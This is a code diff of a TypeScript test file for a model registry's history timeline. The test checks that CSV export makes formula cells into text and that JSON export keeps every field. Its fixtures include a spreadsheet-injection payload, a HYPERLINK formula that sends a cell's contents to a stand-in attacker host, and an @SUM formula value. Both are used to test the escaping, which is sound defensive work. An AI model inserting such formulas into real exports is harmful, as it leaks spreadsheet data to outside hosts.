@@ -2,7 +2,7 @@ import * as assert from 'node:assert/strict';
 import { describe, it } from 'node:test';
 import { filterChoices, filterTimeline, type TimelineEvent } from '../../../src/core/history/timeline';
 import { exportTimeline } from '../../../src/core/history/timelineExport';
-import { readTimeline } from '../../../src/registry/timeline';
+import { readTimeline } from '../../../src/store/timeline';
 import { addRun } from '../helpers/sample';
 import { ACTOR, commit, git, makeRepo, modelFile, openRegistry } from '../registry/gitRepos';
 
@@ -34,8 +34,8 @@ async function storyRepo() {
 }
 
 describe('History timeline: registry tags and the audit log merged', async () => {
-  const { store, registry, run } = await storyRepo();
-  const events = readTimeline(registry, store);
+  const { store, run } = await storyRepo();
+  const events = readTimeline(store);
 
   it('pairs each tag Model Ledger wrote with its audit entry, keeps the rest apart, newest first', () => {
     const row = (e: TimelineEvent) => [e.action, e.model, e.version, e.stage, e.tag, e.auditId === null ? 'git only' : 'git+log'];
@@ -53,7 +53,7 @@ describe('History timeline: registry tags and the audit log merged', async () =>
     assert.equal(events.length, 7, 'six tags and the run rename; no entry twice');
     const rename = events.find((e) => e.tag === null)!;
     assert.deepEqual([rename.action, rename.model, rename.actor, rename.commit], ['run.rename', null, 'Ada Lovelace <ada@example.com>', null]);
-    assert.ok(rename.detail.startsWith(`${run}: `));
+    assert.deepEqual([rename.target, rename.detail], [run, '{"name":"gbm"} → {"name":"@SUM(1+1), \\"quoted\\""}']);
     const rollback = events.find((e) => e.tag === 'churn#prod#3')!;
     assert.equal(rollback.detail, '{"version":"v0.1.0"} → {"version":"v0.0.1","tag":"churn#prod#3"}');
     assert.equal(rollback.actor, ACTOR);
@@ -84,20 +84,20 @@ describe('History timeline: registry tags and the audit log merged', async () =>
   it('exports CSV with formula cells made text and JSON with every field', () => {
     const csv = exportTimeline(events, 'csv');
     const lines = csv.split('\r\n');
-    assert.equal(lines[0], 'time,actor,action,model,version,stage,tag,commit,gate,auditId,detail');
+    assert.equal(lines[0], 'time,actor,action,target,model,version,stage,tag,commit,gate,auditId,detail');
     assert.equal(lines.length, events.length + 2, 'a header, a line per event, and the final line end');
     const teammateLine = lines[events.length]!;
-    assert.ok(teammateLine.startsWith(`2020-01-02T03:04:05.000Z,"'=HYPERLINK(""http://evil.example/?x""&A1) <mallory@example.com>",assign,churn,v0.1.0,staging,churn#staging#4,`), teammateLine);
+    assert.ok(teammateLine.startsWith(`2020-01-02T03:04:05.000Z,"'=HYPERLINK(""http://evil.example/?x""&A1) <mallory@example.com>",assign,churn#staging#4,churn,v0.1.0,staging,churn#staging#4,`), teammateLine);
     const renameLine = lines.find((l) => l.includes('run.rename'))!;
     // The detail holds a comma and quotes: one quoted field, quotes doubled.
-    assert.ok(renameLine.endsWith(`,run.rename,,,,,,,6,"${run}: {""name"":""gbm""} → {""name"":""@SUM(1+1), \\""quoted\\""""}"`), renameLine);
+    assert.ok(renameLine.endsWith(`,run.rename,${run},,,,,,,6,"{""name"":""gbm""} → {""name"":""@SUM(1+1), \\""quoted\\""""}"`), renameLine);
     for (const line of lines.slice(1, -1)) {
       for (const cell of line.split(',')) assert.doesNotMatch(cell, /^[=+@\t\r]/, `no cell starts as a formula: ${line}`);
     }
 
     const json = JSON.parse(exportTimeline(events, 'json')) as Record<string, unknown>[];
     assert.equal(json.length, events.length);
-    assert.deepEqual(Object.keys(json[0]!), ['time', 'actor', 'action', 'model', 'version', 'stage', 'tag', 'commit', 'gate', 'auditId', 'detail']);
+    assert.deepEqual(Object.keys(json[0]!), ['time', 'actor', 'action', 'target', 'model', 'version', 'stage', 'tag', 'commit', 'gate', 'auditId', 'detail']);
     assert.equal(json.at(-1)!.actor, `${TEAMMATE} <mallory@example.com>`, 'JSON keeps the text as it is');
     assert.equal(json.at(-1)!.auditId, null);
   });
